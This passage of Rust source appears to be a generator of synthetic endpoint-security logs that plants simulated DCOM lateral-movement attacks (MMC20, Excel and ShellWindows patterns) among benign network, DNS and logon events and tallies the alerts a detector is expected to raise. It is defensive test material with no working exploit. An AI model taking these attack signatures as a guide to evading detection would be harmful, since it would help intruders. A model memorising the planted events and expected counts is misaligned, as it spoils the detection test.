                let (exe, dst, port, transport) = OUTBOUND[self.rng.below(OUTBOUND.len() as u64) as usize];
                let (entity, pid) = (self.rng.hex(64), self.rng.pid());
                let sport = 49152 + self.rng.below(16000) as u16;
                self.network(h, time, exe, &entity, pid, false, transport, (&ip, sport), (dst, port))
            }
            Kind::Inbound => {
                let server = self.hosts[h].server && self.rng.below(2) == 0;
                let table = if server { SERVER_SERVICES } else { SERVICES };
                let (exe, port) = table[self.rng.below(table.len() as u64) as usize];
                let (entity, pid) = (self.rng.hex(64), if exe == "System" { 4 } else { self.rng.pid() });
                let remote = format!("10.20.{}.{}", self.rng.below(8), 1 + self.rng.below(250));
                let rport = 32768 + self.rng.below(28000) as u16;
                self.network(h, time, exe, &entity, pid, true, "tcp", (&remote, rport), (&ip, port))
            }
            Kind::InboundLoopback => {
                let (exe, entity, pid) = if self.rng.below(2) == 0 {
                    (r"C:\Windows\explorer.exe", self.hosts[h].explorer_entity.clone(), self.hosts[h].explorer_pid)
                } else {
                    (r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", self.rng.hex(64), self.rng.pid())
                };
                let port = 49152 + self.rng.below(16000) as u16;
                self.network(h, time, exe, &entity, pid, true, "tcp", ("127.0.0.1", port), ("127.0.0.1", 49800))
            }
            Kind::ExplorerLowPort => {
                let (entity, pid) = (self.hosts[h].explorer_entity.clone(), self.hosts[h].explorer_pid);
                let remote = format!("10.20.{}.{}", self.rng.below(8), 1 + self.rng.below(250));
                let rport = 32768 + self.rng.below(28000) as u16;
                self.network(
                    h,
                    time,
                    r"C:\Windows\explorer.exe",
                    &entity,
                    pid,
                    true,
                    "tcp",
                    (&remote, rport),
                    (&ip, 2869),
                )
            }
            Kind::Dns => {
                let header = self.endpoint_header("network", time, "lookup_result", "network", r#""protocol","info""#);
                let host = self.host_fields(h);
                let user = self.user_fields();
                format!(
                    r#"{header}"dns":{{"question":{{"name":"outlook.office365.com","type":"A"}},"resolved_ip":["52.97.146.162"]}},{host},"message":"Endpoint DNS event","network":{{"protocol":"dns"}},"process":{{"entity_id":"{eid}","executable":"C:\\Windows\\System32\\svchost.exe","name":"svchost.exe","pid":{pid}}},{user}}}"#,
                    eid = self.rng.hex(64),
                    pid = self.rng.pid(),
                )
            }
            Kind::NetworkLogon => {
                let remote = format!("10.20.{}.{}", self.rng.below(8), 1 + self.rng.below(250));
                let id = self.fresh_logon_id();
                self.logon(h, time, (3, "Network"), id, &remote)
            }
            Kind::LoopbackLogon => {
                let id = self.fresh_logon_id();
                let source = if self.rng.below(2) == 0 { "127.0.0.1" } else { "::1" };
                self.logon(h, time, (3, "Network"), id, source)
            }
            Kind::Interactive => {
                let id = self.hosts[h].session;
                self.logon(h, time, (2, "Interactive"), id, "127.0.0.1")
            }
            Kind::RemoteInteractive => {
                let remote = format!("10.20.{}.{}", self.rng.below(8), 1 + self.rng.below(250));
                let id = self.fresh_logon_id();
                self.logon(h, time, (10, "RemoteInteractive"), id, &remote)
            }
            Kind::File | Kind::Registry | Kind::Library => self.other(h, time, kind),
        };
        self.emit(line);
    }

    /// A logon id no other logon and no benign process carries.
    fn fresh_logon_id(&mut self) -> u64 {
        0x1_0000_0000 | self.rng.below(1 << 31) << 1
    }

    /// One planted attack (see the module documentation), on a random host, 20 s from now.
    fn plant(&mut self, which: u64) {
        let h = self.rng.below(HOST_COUNT as u64) as usize;
        let t = self.now + 20_000;
        let ip = self.hosts[h].ip.clone();
        let attacker = self.rng.pick(ATTACKERS);
        let rport = 32768 + self.rng.below(28000) as u16;
        let lport = 49152 + self.rng.below(16000) as u16;
        let svchost = (
            r"C:\Windows\System32\services.exe",
            r"C:\Windows\system32\services.exe",
            r"C:\Windows\System32\svchost.exe",
            r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        );
        match which % 3 {
            0 => {
                // MMC20: network logon 1.5 s before the start, the connection 0.8 s after.
                let logon = 0x2_0000_0000 | self.rng.below(1 << 31) << 1 | 1;
                let line = self.logon(h, t - 1500, (3, "Network"), logon, attacker);
                self.emit(line);
                let (guid, pid, parent) = (self.rng.guid(), self.rng.pid(), self.rng.guid());
                let mmc =
                    (svchost.2, svchost.3, r"C:\Windows\System32\mmc.exe", r"C:\Windows\system32\mmc.exe -Embedding");
                let line = self.sysmon(h, t, mmc, &guid, pid, &parent, logon, None);
                self.emit(line);
                let line =
                    self.sysmon(h, t + 800, mmc, &guid, pid, &parent, logon, Some(((attacker, rport), (&ip, lport))));
                self.emit(line);
                let child = (mmc.2, mmc.3, MATCHING[0].2, MATCHING[0].3);
                let (cguid, cpid) = (self.rng.guid(), self.rng.pid());
                let line = self.sysmon(h, t + 1900, child, &cguid, cpid, &guid, logon, None);
                self.emit(line);
                self.expected.d2 += 1;
                self.expected.d2l += 1;
                self.expected.seed += 1;
            }
            1 => {
                // Excel: the connection is logged 3 s before the start (Sysmon-like skew).
                let (entity, pid, parent) = (self.rng.hex(64), self.rng.pid(), self.rng.hex(64));
                let excel = OFFICE_STARTED[0];
                let line =
                    self.network(h, t - 3000, excel.2, &entity, pid, true, "tcp", (attacker, rport), (&ip, lport));
                self.emit(line);
                let line = self.process(h, t, excel, &entity, pid, &parent, self.hosts[h].explorer_pid + 8, false);
                self.emit(line);
                self.expected.d2 += 1;
            }
            _ => {
                // ShellWindows: no other explorer child on this host within 20 s of it.
                self.hosts[h].quiet_until = t + 20_000;
                let (entity, pid) = (self.hosts[h].explorer_entity.clone(), self.hosts[h].explorer_pid);
                let line = self.network(
                    h,
                    t,
                    r"C:\Windows\explorer.exe",
                    &entity,
                    pid,
                    true,
                    "tcp",
                    (attacker, rport),
                    (&ip, lport),
                );
                self.emit(line);
                let child = (
                    r"C:\Windows\explorer.exe",
                    r"C:\Windows\Explorer.EXE",
                    r"C:\Windows\System32\cmd.exe",
                    r"C:\Windows\system32\cmd.exe /c echo ok > C:\Users\Public\o.txt",
                );
                let (centity, cpid) = (self.rng.hex(64), self.rng.pid());
                let line = self.process(h, t + 2000, child, &centity, cpid, &entity, pid, false);
                self.emit(line);
                self.expected.d3 += 1;
            }
        }
    }
}

fn parse_bytes(s: &str) -> u64 {
    let (n, mult) = match s.chars().last() {
        Some('K' | 'k') => (&s[..s.len() - 1], 1 << 10),
        Some('M' | 'm') => (&s[..s.len() - 1], 1 << 20),
        Some('G' | 'g') => (&s[..s.len() - 1], 1 << 30),
        _ => (s, 1),
    };
    n.parse::<u64>().expect("BYTES") * mult
}

fn main() {
    let usage = "usage: gen_events BYTES [SEED] [--mix realistic|dense|process]";
    let mut positional = Vec::new();
    let mut mix = Mix::Realistic;
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        match a.as_str() {
            "--mix" => {
                mix = match args.next().as_deref() {
                    Some("realistic") => Mix::Realistic,
                    Some("dense") => Mix::Dense,
                    Some("process") => Mix::Process,
                    _ => panic!("{usage}"),
                }
            }
            _ => positional.push(a),
        }
    }
    let target = parse_bytes(positional.first().expect(usage));
    let seed = positional.get(1).map_or(0x9E37_79B9_7F4A_7C15, |s| s.parse().expect("SEED"));
    let mut rng = Rng(seed | 1);
    let hosts = (0..HOST_COUNT)
        .map(|i| {
            let server = i < SERVER_COUNT;
            Host {
                name: if server { format!("srv-app-{i:02}") } else { format!("ws-{:04}", 40 + 37 * i) },
                id: rng.hex(12),
                ip: format!("10.20.{}.{}", 1 + i / 100, 10 + i % 100),
                server,
                explorer_entity: rng.hex(64),
                explorer_pid: rng.pid(),
                session: 0x3_0000_0000 | rng.below(1 << 31),
                quiet_until: 0,
            }
        })
        .collect();
    let stdout = std::io::stdout();
    let mut gen = Gen {
        rng,
        out: BufWriter::with_capacity(1 << 20, stdout.lock()),
        mix,
        hosts,
        now: BASE_MS + 3_600_000,
        seq: 0,
        written: 0,
        expected: Expected::default(),
        counts: vec![0; MIX.len()],
    };
    let mut events = 0u64;
    while gen.written < target {
        gen.event();
        events += 1;
        if events % PLANT_EVERY == PLANT_EVERY / 2 {
            gen.plant(events / PLANT_EVERY);
        }
        gen.now += 1 + gen.rng.below(39) as i64;
    }
    gen.out.flush().expect("stdout");
    let mix_text: Vec<String> = MIX
        .iter()
        .filter(|(k, _)| k.in_mix(mix))
        .map(|(k, _)| format!("{:?} {:.1}", k, 1000.0 * gen.counts[*k as usize] as f64 / events as f64))
        .collect();
    eprintln!("{} records, {} bytes; per 1,000 drawn: {}", gen.seq, gen.written, mix_text.join(", "));
    let e = &gen.expected;
    eprintln!("expected alerts: seed {}, D2 {}, D2L {}, D3 {}", e.seed, e.d2, e.d2l, e.d3);
}
